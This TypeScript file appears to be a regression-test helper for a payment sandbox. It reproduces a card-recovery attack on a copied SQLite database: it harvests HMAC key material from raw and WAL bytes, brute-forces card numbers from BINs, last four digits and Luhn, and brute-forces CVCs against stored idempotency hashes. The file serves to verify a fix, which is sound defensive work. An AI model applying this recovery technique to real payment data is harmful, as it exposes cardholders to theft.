import Database from 'better-sqlite3';
import { createHmac } from 'node:crypto';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { detectBrand, fingerprint, TEST_CARDS } from '../../../sandbox/cards.js';
import { canonicalJson, withoutCardSecrets } from '../../../sandbox/http.js';
import { luhnValid } from '../../../src/card/luhn.js';

/**
 * The card-recovery attack of issue #8, as an attacker with a copy of the sandbox's database files
 * (the `.db` and its `-wal`, not the key file) runs it:
 *
 * 1. Key material: every `meta` value, and every 64-hex-digit string in the raw bytes that is not
 *    itself a stored idempotency hash (deleted rows and old WAL frames included).
 * 2. Card numbers: for each stored fingerprint, the public test-card BINs (8-digit prefixes) of its
 *    brand + its last 4 + the Luhn rule, hashed with each key, as the sandbox fingerprints a number.
 * 3. CVCs: for each stored confirm idempotency hash, the confirm body rebuilt from what the database
 *    says about that session (expiry, billing details, return origin) with each candidate number
 *    and every CVC (000–999; 0000–9999 for Amex), hashed with each key the way the sandbox did
 *    before issue #8 (whole body) and the way it does now (number → fingerprint, no CVC). A charge
 *    of a saved card (issue #11) is also tried as the saved-card confirm: its `pm_…` and each CVC.
 *
 * Saved cards (`payment_methods` rows) are attacked like charges: their fingerprints too.
 *
 * On the old scheme this finds every card in well under a second per card; it must find nothing on
 * a database the sandbox writes now.
 */

/** What the attacker reads out of the copied files. */
export interface Loot {
  meta: Record<string, string>;
  /** The raw bytes of the .db and -wal files (latin1), for strings the tables no longer show. */
  raw: string;
  charges: StolenCharge[];
  /** Confirm (client-scope) idempotency records. */
  records: StolenRecord[];
  /** Every stored idempotency hash: digests, not keys. */
  hashes: string[];
}

export interface StolenCharge {
  /** Empty for a saved card (a `payment_methods` row), which belongs to no session. */
  sessionId: string;
  /** The Payment Method the charge used (issue #11), or the saved card's own id. */
  paymentMethod: string | null;
  brand: string;
  last4: string;
  expMonth: number;
  expYear: number;
  fingerprint: string;
  billingDetails: unknown;
}

export interface StolenRecord {
  sessionId: string;
  hash: string;
  /** Where the confirm's `returnOrigin` may have pointed: the session's origins and its challenges'. */
  returnOrigins: string[];
}

/** A card the attack got back: the number, and the CVC when that was found too. */
export interface RecoveredCard {
  number: string;
  cvc: string | null;
}

/** Copies the database files (never the key file) and reads them like an attacker with sqlite3 would. */
export function stealDatabase(dbPath: string): Loot {
  const dir = mkdtempSync(join(tmpdir(), 'xpay-stolen-'));
  try {
    const copy = join(dir, 'stolen.db');
    copyFileSync(dbPath, copy);
    if (existsSync(`${dbPath}-wal`)) copyFileSync(`${dbPath}-wal`, `${copy}-wal`);
    const raw = readFileSync(copy).toString('latin1') + (existsSync(`${copy}-wal`) ? readFileSync(`${copy}-wal`).toString('latin1') : '');
    const db = new Database(copy);
    try {
      const meta = Object.fromEntries((db.prepare('SELECT key, value FROM meta').all() as { key: string; value: string }[]).map((r) => [r.key, r.value]));
      const sessionOf = new Map((db.prepare('SELECT id, session_id FROM intents').all() as { id: string; session_id: string }[]).map((r) => [r.id, r.session_id]));
      type StoredCard = { brand: string; last4: string; expMonth: number; expYear: number; fingerprint: string };
      const charges: StolenCharge[] = (db.prepare('SELECT data FROM charges').all() as { data: string }[]).flatMap((r) => {
        const ch = JSON.parse(r.data) as {
          paymentIntent: string;
          paymentMethod?: string | null;
          billingDetails: unknown;
          paymentMethodDetails: { card?: StoredCard };
        };
        const card = ch.paymentMethodDetails.card;
        if (!card) return []; // a bank redirect: no card
        return [{ sessionId: sessionOf.get(ch.paymentIntent)!, paymentMethod: ch.paymentMethod ?? null, ...card, billingDetails: ch.billingDetails }];
      });
      const hasMethods = db.prepare("SELECT name FROM sqlite_master WHERE name = 'payment_methods'").get() !== undefined;
      for (const r of hasMethods ? (db.prepare('SELECT data FROM payment_methods').all() as { data: string }[]) : []) {
        const pm = JSON.parse(r.data) as { id: string; card: StoredCard; billingDetails: unknown };
        charges.push({ sessionId: '', paymentMethod: pm.id, ...pm.card, billingDetails: pm.billingDetails });
      }
      const origins = new Map<string, string[]>();
      for (const r of db.prepare('SELECT id, data FROM sessions').all() as { id: string; data: string }[]) {
        origins.set(r.id, (JSON.parse(r.data) as { allowedOrigins: string[] | null }).allowedOrigins ?? []);
      }
      for (const r of db.prepare('SELECT data FROM challenges').all() as { data: string }[]) {
        const ch = JSON.parse(r.data) as { sessionId: string; returnOrigin: string };
        origins.get(ch.sessionId)?.push(ch.returnOrigin);
      }
      const records = (db.prepare("SELECT scope, request_hash FROM idempotency WHERE scope LIKE 'cs:%'").all() as { scope: string; request_hash: string }[]).map(
        (r) => {
          const sessionId = r.scope.slice(3);
          return { sessionId, hash: r.request_hash, returnOrigins: [...new Set(origins.get(sessionId) ?? [])] };
        },
      );
      const hashes = (db.prepare('SELECT request_hash FROM idempotency').all() as { request_hash: string }[]).map((r) => r.request_hash);
      return { meta, raw, charges, records, hashes };
    } finally {
      db.close();
    }
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** Step 1: everything in the files that could be an HMAC key. */
export function keyMaterial(loot: Loot): string[] {
  const hashes = new Set(loot.hashes);
  const hexRuns = [...loot.raw.matchAll(/[0-9a-f]{64}/g)].map((m) => m[0]).filter((h) => !hashes.has(h));
  return [...new Set([...Object.values(loot.meta), ...hexRuns])];
}

/** Every number a BIN guess, the last 4 and Luhn allow for a card of this brand. */
export function candidateNumbers(brand: string, last4: string): string[] {
  const length = brand === 'amex' ? 15 : 16;
  const bins = [...new Set(Object.keys(TEST_CARDS).map((n) => n.slice(0, 8)))].filter((bin) => detectBrand(bin) === brand);
  const middle = length - 8 - 4;
  const out: string[] = [];
  for (const bin of bins) {
    for (let i = 0; i < 10 ** middle; i++) {
      const n = `${bin}${String(i).padStart(middle, '0')}${last4}`;
      if (luhnValid(n)) out.push(n);
    }
  }
  return out;
}

/**
 * Steps 2 and 3. `knownNumbers` plays a stronger attacker who already has the card numbers (from
 * elsewhere) and is after the CVCs alone.
 */
export function recoverCards(loot: Loot, knownNumbers: string[] = []): RecoveredCard[] {
  const keys = keyMaterial(loot);
  const found = new Map<string, RecoveredCard>();
  const numbersOf = new Map<StolenCharge, string[]>();

  for (const charge of loot.charges) {
    const hits = candidateNumbers(charge.brand, charge.last4).filter((n) => keys.some((k) => fingerprint(n, k) === charge.fingerprint));
    for (const n of hits) found.set(n, { number: n, cvc: null });
    const known = knownNumbers.filter((n) => n.endsWith(charge.last4) && detectBrand(n) === charge.brand);
    numbersOf.set(charge, [...new Set([...hits, ...known])]);
  }

  for (const record of loot.records) {
    const path = `/v1/checkout/sessions/${record.sessionId}/confirm`;
    for (const charge of loot.charges.filter((c) => c.sessionId === record.sessionId)) {
      for (const number of numbersOf.get(charge) ?? []) {
        const cvcDigits = detectBrand(number) === 'amex' ? 4 : 3;
        for (const returnOrigin of record.returnOrigins) {
          const body = (cvc: string) => ({
            paymentMethod: {
              type: 'card',
              card: { number, expMonth: charge.expMonth, expYear: charge.expYear, cvc },
              billingDetails: charge.billingDetails,
            },
            returnOrigin,
          });
          for (const key of keys) {
            const hmac = (text: string) => createHmac('sha256', key).update(`POST\n${path}\n${text}`).digest('hex');
            // Today's scheme: the number as its fingerprint, no CVC — confirms the number only.
            if (hmac(canonicalJson(withoutCardSecrets(body(''), key))) === record.hash && !found.get(number)?.cvc) {
              found.set(number, { number, cvc: null });
            }
            // The scheme before issue #8: the whole body, number and CVC included.
            for (let i = 0; i < 10 ** cvcDigits; i++) {
              const cvc = String(i).padStart(cvcDigits, '0');
              if (hmac(canonicalJson(body(cvc))) === record.hash) found.set(number, { number, cvc });
              // A saved card's confirm: no number in the body, the CVC again.
              const saved = { paymentMethod: { type: 'card', id: charge.paymentMethod, card: { cvc } }, returnOrigin };
              if (charge.paymentMethod !== null && hmac(canonicalJson(saved)) === record.hash) found.set(number, { number, cvc });
            }
          }
        }
      }
    }
  }
  return [...found.values()];
}
